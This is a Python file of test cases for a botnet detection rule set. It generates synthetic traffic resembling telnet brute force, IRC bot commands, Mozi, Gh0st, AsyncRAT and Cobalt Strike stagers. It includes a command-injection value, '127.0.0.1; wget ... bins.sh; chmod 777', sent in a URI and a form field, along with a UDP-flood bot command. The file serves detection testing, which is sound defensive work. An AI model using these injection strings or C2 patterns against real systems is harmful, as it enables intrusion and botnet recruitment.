"""Cases of rules/botnet.rules."""
import base64
import random
from urllib.parse import quote

import session
from apps import der, http, tls
from capture import SECOND
from cases import INSIDE, OUTSIDE, OUTSIDE2, SERVER, START, Case, dialogue, requests, tcp, uri

REPORT = base64.b64encode(random.Random(7).randbytes(128)).decode()      # 128 octets of RSA: 172 characters


def telnet(*messages):
    return lambda path: dialogue(tcp(path, OUTSIDE, SERVER, 23), None, b"login: ", *[m and m.encode() + b"\r\n" for m in messages])


def refusals(count):
    def play(path):
        for number in range(count):
            dialogue(tcp(path, OUTSIDE, SERVER, 23, at=START + number * SECOND, sport=40000 + number), None, b"login: ", b"root\r\n", b"Login incorrect\r\n")
    return play


def home(port, *messages):
    """A bot and its master in turn, the bot first."""
    return lambda path: dialogue(tcp(path, INSIDE, OUTSIDE2, port), *[m.encode() if isinstance(m, str) else m for m in messages])


def beats(first, count):
    """Signs in, then beats once a minute, each beat answered."""
    def play(path):
        s = tcp(path, INSIDE, OUTSIDE2, 23)
        s.open()
        s.send(first)
        for _ in range(count):
            s.wait(60 * SECOND)
            s.send(b"\0\0")
            s.reply(b"\0\0")
        s.close()
    return play


def datagram(text):
    return lambda path: session.datagram(path, (INSIDE, 6881), (OUTSIDE, 6881), START, text)


def asking(request, response=None):
    return lambda path: requests(path, INSIDE, OUTSIDE2, (request, response))


def cookie(value):
    return asking(http.get("/ca", "cdn.example", headers={"Cookie": value}))


def posted(where, kind):
    return asking(http.request("POST", where, "cdn.example", body=bytes(64), headers={"Content-Type": kind}))


def form(text):
    return lambda path: requests(path, OUTSIDE, SERVER, (http.form("/ping", "www.example", text), None))


def shown(certificate):
    """A server that shows a certificate."""
    def play(path):
        s = tcp(path, INSIDE, OUTSIDE2, 443)
        s.open()
        tls.handshake12(s, random.Random(2), None, [certificate])
        s.close()
    return play


def irc(*messages):
    return home(6667, *messages)


FETCH = "127.0.0.1; wget http://203.0.113.9/bins.sh -O /tmp/b; chmod 777 /tmp/b"
STAGE = b"\0\xa0\2\0MZ\xe8\0\0\0\0" + bytes(300) + b"ReflectiveLoader\0"
GH0ST = b"Gh0st\xad\0\0\0\xe0\0\0\0\x78\x9c" + bytes(60)

CASES = {
    9100801: Case(telnet("root", "# ", "/bin/busybox ECCHI"), telnet("root", "# ", "/bin/busybox ls"), also=(9101318,)),
    9100802: Case(telnet("root", "# ", "/bin/busybox ECCHI", "ECCHI: applet not found\r\n# "), telnet("root", "# ", "busybox nc", "nc: applet not found\r\n# "), also=(9101318,)),
    9100803: Case(refusals(12), refusals(3), also=(9101318,)),
    9100805: Case(beats(b"\0\0\0\1", 4), beats(b"\0\0\0\2", 4)),
    9100806: Case(datagram(b"d1:ad2:id20:88888888\xf6\x02\x77\x01\x98\x62\xc1\x1c\x95\xbee1:q4:ping1:t2:aa1:y1:qe"), datagram(b"d1:ad2:id20:\xf6\x02\x77\x0188888888\x98\x62\xc1\x1c\x95\xbee1:q4:ping1:t2:aa1:y1:qe")),
    9100807: Case(uri("/Mozi.m"), uri("/Mozi.mp4")),
    9100808: Case(home(666, None, "!* SCANNER ON\n"), home(666, None, "!* please read\n")),
    9100809: Case(uri("/ping.cgi?h=" + quote(FETCH)), uri("/help?q=" + quote("how to wget http://203.0.113.9/a.iso"))),
    9100810: Case(form("h=" + quote(FETCH)), form("q=" + quote("how to wget http://203.0.113.9/a.iso"))),
    9100811: Case(irc("NICK [CHN|W10|4817264]\r\nUSER x 0 * :x\r\n"), irc("NICK linlin_2026\r\nUSER x 0 * :x\r\n")),
    9100812: Case(irc("JOIN #a\r\n", ":m!m@h PRIVMSG #a :!udpflood 203.0.113.9 80\r\n"), irc("JOIN #a\r\n", ":m!m@h PRIVMSG #a :!help please\r\n")),
    9100813: Case(cookie(REPORT), cookie("JSESSIONID=" + REPORT[:161])),
    9100814: Case(posted("/submit.php?id=48213", "application/octet-stream"), posted("/submit.php?id=48213&form=2", "application/x-www-form-urlencoded")),
    9100815: Case(shown(der.certificate("cdn.example", serial=0x08BB00EE)), shown(der.certificate("cdn.example", serial=0x18BB00EE))),
    9100816: Case(shown(der.certificate("multiplayer", issuer="operators")), shown(der.certificate("multiplayer.example", issuer="operators"))),
    9100817: Case(shown(der.certificate("AsyncRAT Server")), shown(der.certificate("async-server.example"))),
    9100818: Case(home(4444, None, STAGE), home(4444, None, b"\0\xa0\2\0MZ\xe8\0\0\0\0" + bytes(300))),
    9100819: Case(home(8000, GH0ST), home(8000, b"Gh0st in the shell " + bytes(40))),
}
MARKS = (9100804,)
